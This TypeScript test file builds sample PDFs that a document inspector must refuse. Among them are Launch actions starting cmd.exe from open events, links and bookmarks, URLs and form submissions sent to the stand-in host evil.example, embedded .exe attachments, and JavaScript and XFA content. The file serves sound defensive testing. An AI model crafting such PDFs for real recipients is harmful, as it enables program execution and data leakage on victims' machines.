// PDFs that the inspection must refuse for active content or attachments: each kind of action at each position where a viewer runs it.

import { readdirSync, readFileSync } from 'node:fs';
import { toObjectStream, toStream, withAnnotation, withCatalog, withPage } from '../files/pdf.ts';
import { toBadFiles, toStrictPdfs, type BadFile } from './bad-file.ts';

const folder = new URL('../../fixtures/encrypted-javascript/', import.meta.url);
const launch = '<</S/Launch/F(cmd.exe)>>';
const address = '<</S/URI/URI(https://evil.example)>>';
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const embedded = toStream('/Type/EmbeddedFile', 'data');

const launches = toBadFiles('pdf', [
  [
    'pdf-launch',
    'a program that starts when the file opens',
    () => withCatalog(`/OpenAction${launch}`),
  ],
  [
    'pdf-launch',
    'a program in a referenced action',
    () => withCatalog('/OpenAction 6 0 R', launch),
  ],
  [
    'pdf-launch',
    'a program behind two references',
    () => withCatalog('/OpenAction 6 0 R', '7 0 R', launch),
  ],
  ['pdf-launch', 'a program that a link starts', () => withAnnotation(`/Subtype/Link/A${launch}`)],
  [
    'pdf-launch',
    'a program that a bookmark starts',
    () => withCatalog('/Outlines<</First 6 0 R/Last 6 0 R>>', `<</Title(a)/A${launch}>>`),
  ],
  ['pdf-launch', 'a program that starts when the page opens', () => withPage(`/AA<</O${launch}>>`)],
  [
    'pdf-launch',
    'a program that a mouse button starts',
    () => withAnnotation(`/Subtype/Widget/AA<</D${launch}>>`),
  ],
  [
    'pdf-launch',
    'a program in the next presentation step',
    () => withPage('/PresSteps 6 0 R', `<</NA${launch}>>`),
  ],
  [
    'pdf-launch',
    'a program in the previous presentation step',
    () => withPage('/PresSteps 6 0 R', `<</PA${launch}>>`),
  ],
  [
    'pdf-launch',
    'a program that starts after a GoTo action',
    () => withCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${launch}>>`),
  ],
  [
    'pdf-launch',
    'a program in a list of next actions',
    () => withCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>${launch}]>>`),
  ],
  [
    'pdf-launch',
    'a program in the list of document scripts',
    () => withCatalog(`/Names<</JavaScript<</Kids[<</Names[(a)${launch}]>>]>>>>`),
  ],
  [
    'pdf-launch',
    'a program together with an attachment',
    () => withCatalog(`/OpenAction${launch}/AF[<</EF<</F 6 0 R>>>>]`, embedded),
  ],
]);

const automatic = toBadFiles('pdf', [
  [
    'pdf-sends-itself',
    'a URL that opens with the file',
    () => withCatalog(`/OpenAction${address}`),
  ],
  ['pdf-sends-itself', 'a URL that opens with the page', () => withPage(`/AA<</O${address}>>`)],
  [
    'pdf-sends-itself',
    'a URL that opens before printing',
    () => withCatalog(`/AA<</WP 6 0 R>>`, address),
  ],
  [
    'pdf-sends-itself',
    'a URL that opens when the pointer enters a field',
    () => withAnnotation(`/Subtype/Widget/AA<</E${address}>>`),
  ],
  [
    'pdf-sends-itself',
    'a form that is submitted when the file opens',
    () => withCatalog('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
  ],
  [
    'pdf-sends-itself',
    'form data that is imported when the file opens',
    () => withCatalog('/OpenAction<</S/ImportData/F(a.fdf)>>'),
  ],
  [
    'pdf-remote-target',
    'another file that opens with the file',
    () => withCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>'),
  ],
  [
    'pdf-remote-target',
    'an attached file that opens with the file',
    () => withCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>'),
  ],
]);

const media = toBadFiles('pdf', [
  ...['Rendition', 'Movie', 'Sound', 'RichMediaExecute'].map(
    (type) =>
      [
        'pdf-media',
        `an action ${type} that starts after a click`,
        () => withAnnotation(`/Subtype/Screen/A<</S/${type}>>`),
      ] as const,
  ),
  ...['RichMedia', 'Movie', 'Sound', '3D'].flatMap(
    (type) =>
      [
        ['pdf-media', `an annotation ${type}`, () => withAnnotation(`/Subtype/${type}`)],
        [
          'pdf-media',
          `an annotation ${type} without a rectangle`,
          () => withPage('/Annots 6 0 R', '[7 0 R]', `<</Subtype/${type}>>`),
        ],
      ] as const,
  ),
]);

const attachments = toBadFiles('pdf', [
  ...['F', 'UF', 'DOS', 'Mac', 'Unix'].map(
    (key) =>
      [
        'pdf-attachment',
        `a named attachment with the key ${key}`,
        () =>
          withCatalog(
            '/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>',
            `<</Type/Filespec/F(a.exe)/EF<</${key} 7 0 R>>>>`,
            embedded,
          ),
      ] as const,
  ),
  [
    'pdf-attachment',
    'an associated file',
    () => withCatalog('/AF[<</UF(a.xml)/EF 6 0 R>>]', '<</UF 7 0 R>>', embedded),
  ],
  [
    'pdf-attachment',
    'a file attachment annotation',
    () => withAnnotation('/Subtype/FileAttachment/FS(a.exe)'),
  ],
]);

const strict = toStrictPdfs([
  [
    'pdf-script',
    'a script that runs when the file opens',
    () => withCatalog(`/OpenAction${script}`),
  ],
  ['pdf-script', 'a script that a link runs', () => withAnnotation(`/Subtype/Link/A${script}`)],
  [
    'pdf-script',
    'a script that a form field runs',
    () => withAnnotation(`/Subtype/Widget/AA<</C${script}>>`),
  ],
  [
    'pdf-script',
    'a named document script',
    () => withCatalog('/Names 6 0 R', `<</JavaScript<</Names[(a)${script}]>>>>`),
  ],
  [
    'pdf-script',
    'a script in an object stream',
    () => withCatalog(`/OpenAction${script}`, toObjectStream([[9, script]])),
  ],
  [
    'pdf-xfa',
    'an XFA form in one stream',
    () => withCatalog('/AcroForm<</Fields[]/XFA 6 0 R>>', toStream('', '<xdp/>')),
  ],
  [
    'pdf-xfa',
    'an XFA form in several packets',
    () => withCatalog('/AcroForm<</Fields[]/XFA[(template)6 0 R]>>', embedded),
  ],
  ...readdirSync(folder)
    .filter((name) => name.endsWith('.pdf') && name !== 'aes-256-owner.pdf')
    .map(
      (name) =>
        [
          'pdf-script',
          `a script in an encrypted PDF, ${name}`,
          () => readFileSync(new URL(name, folder)),
        ] as const,
    ),
]);

export const activePdfs: readonly BadFile[] = [
  ...launches,
  ...automatic,
  ...media,
  ...attachments,
  ...strict,
];
